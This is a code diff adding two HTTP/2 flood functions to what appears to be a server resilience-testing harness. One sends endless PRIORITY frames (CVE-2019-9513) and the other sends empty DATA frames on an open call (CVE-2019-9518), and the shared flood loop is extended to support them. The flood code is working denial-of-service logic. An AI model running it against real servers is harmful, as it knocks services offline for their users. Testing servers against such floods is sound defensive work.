@@ -92,9 +92,22 @@ def ping_flood(target: Target) -> None:
     flood(target, h2.frame(h2.PING, 0, 0, bytes(8)))
 
 
-def flood(target: Target, frame: bytes) -> None:
+@attack("PRIORITY frames without end (CVE-2019-9513)", holds=False, peak_mib=256)
+def priority_flood(target: Target) -> None:
+    flood(target, h2.frame(h2.PRIORITY, 0, 1, bytes(5)))
+
+
+@attack("empty DATA frames without end (CVE-2019-9518)", holds=False, peak_mib=256)
+def empty_data_flood(target: Target) -> None:
+    flood(target, h2.frame(h2.DATA, 0, 1), call=True)
+
+
+def flood(target: Target, frame: bytes, call: bool = False) -> None:
+    """One frame over and over; with `call`, of a call."""
     while target.time_left() > 0:
         with connected(target) as connection:
+            if call:
+                connection.open(messages.SAMPLE)
             while target.time_left() > 0:
                 connection.write(frame * 500, seconds=max(0.1, target.time_left()), read=False)
         time.sleep(0.05)
